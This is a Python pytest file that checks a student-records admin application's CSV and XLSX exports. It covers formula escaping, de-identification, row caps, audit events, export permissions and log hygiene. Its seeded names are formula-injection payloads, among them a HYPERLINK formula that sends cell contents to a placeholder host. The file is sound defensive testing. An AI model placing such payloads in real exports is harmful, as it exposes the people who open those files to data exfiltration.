"""Every export the application offers: formula escaping, rows = list rows, the cap and the audit row,
de-identification and export rights (security.md D1, D2, D3, A7; figures "dangerous export cells
checked", "unescaped dangerous export cells", "identifier regex hits in de-identified exports").

The export URLs are found in ``app.url_map`` (every ``<view>.export`` route and the research
export). The seeded world's student names and school names start with a character a
spreadsheet would run (``=HYPERLINK("http://x/?"&A1)``, ``+``, ``-``, ``@``, tab, CR, NUL);
school numbers look like mobile numbers; every student has an ID number. Every cell of every
file is checked: CSV parsed with :mod:`csv`, XLSX with openpyxl (no cell may be a formula).
How many hostile cells each file holds is worked out by hand from the world's tables.
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import re

import pytest
import security_summary
from openpyxl import load_workbook
from sec_access import EXPECT
from sec_logs import LogCapture, scan
from sec_world import (
    ID_NUMBER,
    LEVEL_VIS,
    MOBILE,
    RESULT_VIS,
    SECRET_KEY,
    STUDENT_VIS,
    STUDENTS,
    World,
    build_world,
    csrf_token,
    login,
)
from sqlalchemy import select

from xinshu.models import AuditEvent

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
NAMES = {
    "a1": '=HYPERLINK("http://x/?"&A1)甲一',
    "a2": "+1甲二",
    "a3": "-2甲三",
    "a4": "@SUM(A1)甲四",
    "b1": "\t乙一",
    "b2": "\r乙二",
    "c1": "\0丙一",
    "c2": "丙二同学",
}
SCHOOL_NAMES = {"sa": "@甲校", "sb": "+乙校", "sc": "=丙校"}
#: The psychology teacher of school C (a target account of the world, logged in here).
PSY_C = "target_d2"
VIS = {
    "student": {**STUDENT_VIS, PSY_C: {"c1", "c2"}},
    "response": {**RESULT_VIS, PSY_C: {"c1", "c2"}},
    "warning": {**LEVEL_VIS, PSY_C: {"c1", "c2"}},
    "case": {**LEVEL_VIS, PSY_C: {"c1", "c2"}},
}
HAS_ROW = {
    "student": set(STUDENTS),
    "response": {k for k, s in STUDENTS.items() if s.level is not None},
    "warning": {k for k, s in STUDENTS.items() if s.level is not None},
    "case": {k for k, s in STUDENTS.items() if s.level is not None and s.level >= 2},
}
FULL = ("psy_a", "principal_a", "psy_b", PSY_C)
DEIDENTIFIED = ("boss", "dist1")
XLSX_CELL_TYPES = ("s", "inlineStr", "n", "d", "b")  # anything but "f" (formula) and "e"


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    built = build_world(tmp_path_factory.mktemp("exports"), names=NAMES, unit_names=SCHOOL_NAMES)
    yield built
    built.services.db.dispose()


@pytest.fixture(scope="module")
def clients(world: World):
    return {user: login(world.app, user) for user in (*FULL, *DEIDENTIFIED, "ct_a1", "nobody", "med_a")}


def export_endpoints(world: World) -> list[str]:
    """The model-view export routes some user may use (``<view>.export``), from the url_map."""
    found = sorted({r.endpoint for r in world.app.url_map.iter_rules() if r.endpoint.endswith(".export")})
    return [e for e in found if any(EXPECT[e]["GET"].users)]


def rows_of(kind: str, body: bytes) -> list[list]:
    if kind == "csv":
        text = body.decode("utf-8")
        assert text.startswith("\ufeff")  # the byte-order mark Excel and WPS need for Chinese
        return list(csv.reader(io.StringIO(text[1:], newline="")))
    sheet = load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows()]


def check_cells(kind: str, rows: list[list]) -> tuple[int, list[str]]:
    """(hostile cells found escaped, problems): a cell starting with a dangerous character is
    unescaped; an escaped one starts with ``'`` and then a dangerous character; XLSX cells
    must never be formulas."""
    escaped, problems = 0, []
    for row in rows:
        for cell in row:
            if kind == "xlsx":
                if cell.data_type not in XLSX_CELL_TYPES:
                    problems.append(f"cell {cell.coordinate} has type {cell.data_type!r}")
                value = cell.value
                # XML reading turns a carriage return into a line feed (XML 1.0 §2.11), and XML 1.0
                # cannot hold NUL at all: the export writes U+FFFD in its place (after the quote).
                dangerous = (*DANGEROUS, "\n", "\ufffd")
            else:
                value, dangerous = cell, DANGEROUS
            if not isinstance(value, str):
                continue
            if value.startswith(dangerous):
                problems.append(f"unescaped {value!r}")
            elif value.startswith("'") and value[1:].startswith(dangerous):
                escaped += 1
    return escaped, problems


def expected_hostile(endpoint: str, user: str) -> int:
    """Hostile cells of ``user``'s file by hand: each row's school name, and its student name in a full file."""
    view = endpoint.split(".")[0]
    keys = VIS[view].get(user, set()) & HAS_ROW[view]
    per_row = 2 if user in FULL else 1
    return sum(per_row if NAMES[k].startswith(DANGEROUS) else 1 for k in keys)


def fetch(client, url: str):
    try:
        response = client.get(url)
        return response.status_code, response.get_data()
    except Exception as exc:
        return 500, f"{type(exc).__name__}: {exc}".encode()


# --- D1: formula injection in every export ----------------------------------------------------


def test_d1_every_export_escapes_every_dangerous_cell(world: World, clients):
    endpoints = export_endpoints(world)
    assert endpoints == ["case.export", "response.export", "student.export", "warning.export"]
    checked, problems = 0, []
    for endpoint in endpoints:
        for user in (*FULL, *DEIDENTIFIED):
            for kind in ("csv", "xlsx"):
                url = f"/admin/{endpoint.split('.')[0]}/export/{kind}/"
                status, body = fetch(clients[user], url)
                if status != 200:
                    problems.append(f"{user} {url} -> {status} {body[:120]!r}")
                    continue
                escaped, found = check_cells(kind, rows_of(kind, body))
                checked += escaped
                problems += [f"{user} {url}: {p}" for p in found]
                if escaped != expected_hostile(endpoint, user):
                    problems.append(
                        f"{user} {url}: {escaped} escaped cells, expected {expected_hostile(endpoint, user)}"
                    )
    unescaped = [p for p in problems if "unescaped" in p or "type" in p]
    security_summary.count("export_cells_checked", checked)
    security_summary.count("unescaped_cells", len(unescaped))
    assert problems == []


def test_d1_csv_is_rfc4180_quoted(world: World, clients):
    raw = clients["psy_a"].get("/admin/student/export/csv/").get_data().decode("utf-8")
    assert '"\'=HYPERLINK(""http://x/?""&A1)甲一"' in raw  # quoted, inner quotes doubled, leading quote
    lines = raw.lstrip("\ufeff").split("\r\n")
    assert all(line.startswith('"') for line in lines if line)


def test_d1_research_export_escapes_and_is_deidentified(world: World, clients):
    """The research export (POST) in both formats: escaped cells, no identifiers."""
    hits, checked, problems = 0, 0, []
    for user in DEIDENTIFIED:
        for kind in ("csv", "xlsx"):
            body = research_export(world, clients[user], kind)
            rows = rows_of(kind, body)
            escaped, found = check_cells(kind, rows)
            checked += escaped
            problems += found
            hits += len(identifier_hits(as_text(kind, rows)))
            assert len(rows) - 1 == {"boss": 7, "dist1": 5}[user]  # one score per response, D1: a1–a3, b1, b2
    security_summary.count("export_cells_checked", checked)
    security_summary.count("deidentified_hits", hits)
    assert problems == [] and hits == 0


def research_export(world: World, client, kind: str) -> bytes:
    page = client.get("/admin/research_export/").get_data(as_text=True)
    data = {"csrf_token": csrf_token(page), "campaign": world.ids["campaign:city"], "fmt": kind}
    response = client.post("/admin/research_export/", data=data)
    assert response.status_code == 200, response.status_code
    return response.get_data()


# --- D3: de-identified files hold no identifier ---------------------------------------------------


def as_text(kind: str, rows: list[list]) -> str:
    if kind == "xlsx":
        rows = [[cell.value for cell in row] for row in rows]
    return "\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows)


def identifier_hits(text: str) -> list[str]:
    """ID numbers, mobile numbers and roster names (without their hostile first character)."""
    names = [name.lstrip("".join(DANGEROUS)) for name in NAMES.values()]
    cores = [re.sub(r"^.*\)", "", name) for name in names]  # the HYPERLINK name's own part, 甲一
    found = ID_NUMBER.findall(text) + MOBILE.findall(text)
    return found + [name for name in {*names, *cores} if name and name in text]


def pseudonym(student_id: int) -> str:
    """HMAC-SHA256 of ``xinshu-student:<id>`` with the secret key, first 20 hex digits (by hand)."""
    return hmac.new(SECRET_KEY.encode(), f"xinshu-student:{student_id}".encode(), hashlib.sha256).hexdigest()[:20]


def test_d3_deidentified_exports_hold_no_identifier(world: World, clients):
    hits, files = [], 0
    for endpoint in export_endpoints(world):
        view = endpoint.split(".")[0]
        for user in DEIDENTIFIED:
            for kind in ("csv", "xlsx"):
                status, body = fetch(clients[user], f"/admin/{view}/export/{kind}/")
                assert status == 200, (user, view, kind, status)
                rows = rows_of(kind, body)
                files += 1
                header = rows[0] if kind == "csv" else [c.value for c in rows[0]]
                assert not {"姓名", "校内学号", "班级"} & set(header), (view, header)
                hits += [f"{user} {view} {kind}: {h}" for h in identifier_hits(as_text(kind, rows))]
    security_summary.count("deidentified_hits", len(hits))
    assert files == 16 and hits == []
    codes = sorted(row[0] for row in rows_of("csv", clients["dist1"].get("/admin/student/export/csv/").get_data())[1:])
    assert codes == sorted(pseudonym(world.student_id(k)) for k in STUDENT_VIS["dist1"])


# --- D2: rows = the list's rows; the cap; the audit row -----------------------------------------


def list_ids(client, url: str) -> list[int]:
    page = client.get(url).get_data(as_text=True)
    return sorted({int(n) for n in re.findall(r"/details/\?id=(\d+)", page)})


@pytest.mark.parametrize("user", ["psy_a", "psy_b", "boss"])
@pytest.mark.parametrize("view", ["response", "warning", "case"])
def test_d2_export_rows_are_the_list_rows(world: World, clients, user: str, view: str):
    client = clients[user]
    for query in ("", "?flt0_0=3"):
        rows = rows_of("csv", client.get(f"/admin/{view}/export/csv/{query}").get_data())
        exported = sorted(int(row[0]) for row in rows[1:])
        assert exported == list_ids(client, f"/admin/{view}/{query}"), (user, view, query)
    expected = {world.ids[f"{view}:{k}"] for k in VIS[view][user] & HAS_ROW[view]}
    assert set(list_ids(client, f"/admin/{view}/")) == expected


def test_d2_export_is_audited_with_rows_and_filters_and_capped(world: World, clients):
    client = clients["psy_a"]
    rows = rows_of("csv", client.get("/admin/warning/export/csv/?flt0_0=3").get_data())
    with world.services.db.sessionmaker() as session:
        event = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id.desc())
        ).first()
    assert (event.actor, event.object_type, event.outcome) == ("psy_a", "warning", "ok")
    assert event.detail["rows"] == len(rows) - 1 and event.detail["filters"] == {"flt0_0": "3"}
    world.app.config["XINSHU_EXPORT_MAX_ROWS"] = 1
    try:
        refused = client.get("/admin/student/export/csv/")  # four students of school A
    finally:
        world.app.config.pop("XINSHU_EXPORT_MAX_ROWS")
    assert refused.status_code == 302 and b"\xe7\x94\xb2" not in refused.get_data()  # no file, no name
    with world.services.db.sessionmaker() as session:
        event = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id.desc())
        ).first()
    assert (event.outcome, event.detail["rows"], event.detail["limit"]) == ("denied", 4, 1)


# --- A7: no export right, no file -----------------------------------------------------------------


def test_a7_no_export_without_an_export_right(world: World, clients):
    anonymous = world.app.test_client()
    for endpoint in export_endpoints(world):
        view = endpoint.split(".")[0]
        for kind in ("csv", "xlsx"):
            url = f"/admin/{view}/export/{kind}/"
            assert clients["ct_a1"].get(url).status_code == 403, url
            assert clients["nobody"].get(url).status_code == 403, url
            response = anonymous.get(url)
            assert response.status_code == 302 and "/login" in response.headers["Location"], url
        assert clients["psy_a"].get(f"/admin/{view}/export/json/").status_code == 404
    for user in ("psy_a", "med_a", "ct_a1", "nobody"):
        assert clients[user].get("/admin/research_export/").status_code == 403, user


def test_i5_a_failing_export_logs_no_name(world: World, clients):
    """Log hygiene when an export fails (as the server runs: exceptions answered 500 and logged)."""
    world.app.config["PROPAGATE_EXCEPTIONS"] = False
    try:
        with LogCapture() as capture:
            statuses = {
                kind: clients[PSY_C].get(f"/admin/student/export/{kind}/").status_code for kind in ("csv", "xlsx")
            }
    finally:
        world.app.config.pop("PROPAGATE_EXCEPTIONS")
    names = [name.lstrip("".join(DANGEROUS)) for name in NAMES.values()]
    hits = [(text[:160], found) for text in capture.texts() if (found := scan(text, names))]
    security_summary.count("log_records_scanned", len(capture.records))
    security_summary.count("log_identifier_hits", len(hits))
    assert hits == []
    assert statuses == {"csv": 200, "xlsx": 200}


def test_exports_are_downloads_never_html(world: World, clients):
    """F3 for files: an export opened in a browser is a download of a non-HTML type, never sniffed."""
    for kind, mime in (("csv", "text/csv"), ("xlsx", "application/vnd.openxmlformats")):
        response = clients["psy_a"].get(f"/admin/student/export/{kind}/")
        assert response.headers["Content-Type"].startswith(mime)
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        response.close()
